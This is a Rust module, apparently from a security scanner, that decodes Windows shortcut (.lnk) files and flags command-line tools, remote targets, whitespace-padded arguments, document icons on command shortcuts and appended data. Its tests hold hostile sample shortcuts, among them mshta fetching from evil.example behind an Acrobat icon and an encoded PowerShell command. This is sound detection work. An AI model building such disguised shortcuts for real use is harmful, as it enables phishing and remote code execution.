//! Windows shortcuts: what they start, with which words, and what they hide. Every shortcut sent to a company is a
//! program; the decoded command says which kind.

use super::bytes::{c_string, cut, index, take, u16_le, u32_le, utf16_le};
use super::commands;
use super::report::Report;

/// What a shortcut holds, decoded.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Shortcut {
    pub target: String,
    pub arguments: String,
    pub working_dir: String,
    pub icon: String,
    /// Starts minimised or hidden.
    pub hidden: bool,
    /// Bytes after the last structure.
    pub tail: usize,
}

pub fn inspect(data: &[u8], report: &mut dyn Report) {
    let Some(shortcut) = parse(data) else {
        return report.gap(
            guarita_message::GapReason::Corrupt,
            guarita_message::FileClass::Executable,
            "the shortcut cannot be decoded",
        );
    };
    let command = format!("{} {}", shortcut.target, shortcut.arguments.trim());
    let command = command.trim();
    if let Some(tool) = commands::tool_in(command) {
        report.fact("files/lnk-command", &format!("{tool}: {}", cut(command, 140)));
    }
    let target = shortcut.target.to_ascii_lowercase();
    if target.starts_with("\\\\") || target.starts_with("http") || target.contains("\\davwwwroot") {
        report.fact("files/lnk-remote", cut(&shortcut.target, 140));
    }
    // Spaces push the command out of the properties dialog's view.
    let padding = shortcut.arguments.chars().take_while(|c| c.is_whitespace()).count();
    let padded = padding > 20 || shortcut.arguments.contains(&" ".repeat(60)) || shortcut.arguments.contains("\n\n\n");
    if padded || shortcut.arguments.len() > 4096 {
        report.fact("files/lnk-padded", &format!("{} characters of arguments", shortcut.arguments.len()));
    }
    let icon = shortcut.icon.to_ascii_lowercase();
    let document_icon = [".pdf", ".doc", ".docx", ".xls", ".jpg", ".png", ".txt", "acrord32", "winword", "excel.exe"]
        .iter()
        .any(|known| icon.contains(known));
    if document_icon && commands::tool_in(command).is_some() {
        report.fact("files/lnk-disguised", &shortcut.icon);
    }
    super::links::in_bytes(shortcut.arguments.as_bytes(), report);
    if shortcut.tail > 1024 {
        report.fact("files/lnk-appended", &format!("{} bytes after the shortcut", shortcut.tail));
        let tail = data.get(data.len().saturating_sub(shortcut.tail)..).unwrap_or_default();
        report.child("appended", tail.to_vec());
    }
}

pub fn parse(data: &[u8]) -> Option<Shortcut> {
    if u32_le(data, 0)? != 0x4c {
        return None;
    }
    let flags = u32_le(data, 20)?;
    let has = |bit: u32| flags >> bit & 1 == 1;
    let mut shortcut = Shortcut { hidden: u32_le(data, 60)? == 7, ..Shortcut::default() };
    let mut at = 76usize;
    if has(0) {
        let size = usize::from(u16_le(data, at)?);
        shortcut.target = id_list(take(data, at + 2, size).unwrap_or_default());
        at += 2 + size;
    }
    if has(1) {
        let size = index(u32_le(data, at)?);
        let info = take(data, at, size).unwrap_or_default();
        if let Some(path) = link_info(info).filter(|path| !path.is_empty()) {
            shortcut.target = path;
        }
        at = at.checked_add(size)?;
    }
    let wide = has(7);
    for bit in [2, 3, 4, 5, 6] {
        if !has(bit) {
            continue;
        }
        let Some(count) = u16_le(data, at).map(usize::from) else { break };
        let bytes = if wide { count * 2 } else { count };
        let raw = take(data, at + 2, bytes).or_else(|| data.get((at + 2).min(data.len())..)).unwrap_or_default();
        let text = if wide { utf16_le(raw) } else { c_string(raw) };
        at += 2 + bytes;
        match bit {
            3 if shortcut.target.is_empty() => shortcut.target = text,
            4 => shortcut.working_dir = text,
            5 => shortcut.arguments = text,
            6 => shortcut.icon = text,
            _ => {}
        }
    }
    let mut blocks = 0;
    while let Some(size) = u32_le(data, at).map(index) {
        blocks += 1;
        if size < 4 || blocks > 64 {
            at += 4;
            break;
        }
        // EnvironmentVariableDataBlock: the path that counts when the others do not resolve.
        if u32_le(data, at + 4) == Some(0xa000_0001) {
            let path = utf16_le(take(data, at + 268, 520).unwrap_or_default());
            if shortcut.target.is_empty() && !path.is_empty() {
                shortcut.target = path;
            }
        }
        at = at.checked_add(size)?;
    }
    shortcut.tail = data.len().saturating_sub(at);
    Some(shortcut)
}

/// Local or network path of a LinkInfo structure.
fn link_info(info: &[u8]) -> Option<String> {
    let flags = u32_le(info, 8)?;
    let text = |offset_at: usize| -> Option<String> {
        let offset = index(u32_le(info, offset_at)?);
        Some(c_string(info.get(offset..)?))
    };
    let suffix = text(24).unwrap_or_default();
    if flags & 1 == 1 {
        return text(16).map(|base| format!("{base}{suffix}"));
    }
    let network = index(u32_le(info, 20)?);
    let name_at = index(u32_le(info, network.checked_add(8)?)?);
    let share = c_string(info.get(network.checked_add(name_at)?..)?);
    Some(format!("{share}\\{suffix}"))
}

/// Names of the items of a shell path, as far as they are plain files and folders.
fn id_list(list: &[u8]) -> String {
    let (mut at, mut parts) = (0usize, Vec::new());
    while let Some(size) = u16_le(list, at).map(usize::from).filter(|size| *size > 2) {
        let item = take(list, at + 2, size - 2).unwrap_or_default();
        match item.first().map(|b| b & 0x70) {
            Some(0x20) => parts.push(c_string(item.get(1..).unwrap_or_default()).trim_end_matches('\\').to_owned()),
            Some(0x30) => parts.push(file_item(item)),
            _ => {}
        }
        at += size;
        if parts.len() > 64 {
            break;
        }
    }
    parts.retain(|part| !part.is_empty());
    parts.join("\\")
}

/// The short name, or the long one of the extension block.
fn file_item(item: &[u8]) -> String {
    if let Some(at) = super::bytes::find(item, b"\x04\0\xef\xbe") {
        let version = at.checked_sub(2).and_then(|at| u16_le(item, at)).unwrap_or(0);
        let start = at
            + 4
            + match version {
                0..=3 => 10,
                4..=6 => 8,
                7 => 26,
                8 => 30,
                _ => 34,
            };
        let long = utf16_le(item.get(start..).unwrap_or_default());
        if !long.is_empty() && long.chars().all(|c| !c.is_control()) {
            return long;
        }
    }
    c_string(item.get(12..).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    /// Target as a relative path, arguments and icon, all in UTF-16.
    fn shortcut(target: &str, arguments: &str, icon: &str) -> Vec<u8> {
        let mut out = vec![0u8; 76];
        out[0] = 0x4c;
        out[20] = 0b1110_1000;
        for text in [target, arguments, icon] {
            let units: Vec<u16> = text.encode_utf16().collect();
            out.extend((units.len() as u16).to_le_bytes());
            out.extend(units.into_iter().flat_map(u16::to_le_bytes));
        }
        out.extend([0; 4]);
        out
    }

    #[test]
    fn commands_are_decoded_and_judged() {
        let check = |file: &[u8], expect: &[&str]| {
            let mut seen = Seen::default();
            inspect(file, &mut seen);
            assert_eq!(seen.rules(), expect, "{:?}", parse(file));
        };
        check(&shortcut("..\\notes.txt", "", ""), &[]);
        check(&shortcut("C:\\Windows\\System32\\cmd.exe", "/c powershell -enc AAAA", ""), &["files/lnk-command"]);
        check(
            &shortcut("mshta.exe", "http://evil.example/a", "C:\\x\\AcroRd32.exe"),
            &["files/lnk-command", "files/lnk-disguised"],
        );
        check(&shortcut("\\\\evil.example\\share\\a.exe", "", ""), &["files/lnk-remote"]);
        check(
            &shortcut("cmd.exe", &format!("{}/c calc", " ".repeat(200)), ""),
            &["files/lnk-command", "files/lnk-padded"],
        );
    }

    #[test]
    fn what_hangs_behind_is_handed_over() {
        let mut file = shortcut("a.txt", "", "");
        file.extend(vec![7; 5000]);
        let mut seen = Seen::default();
        inspect(&file, &mut seen);
        assert_eq!(seen.rules(), ["files/lnk-appended"]);
        assert_eq!(seen.children[0].1.len(), 5000);
    }

    #[test]
    fn every_cut_is_survived() {
        let file = shortcut("cmd.exe", "/c calc", "x.ico");
        for end in 0..file.len() {
            inspect(&file[..end], &mut Seen::default());
        }
    }
}
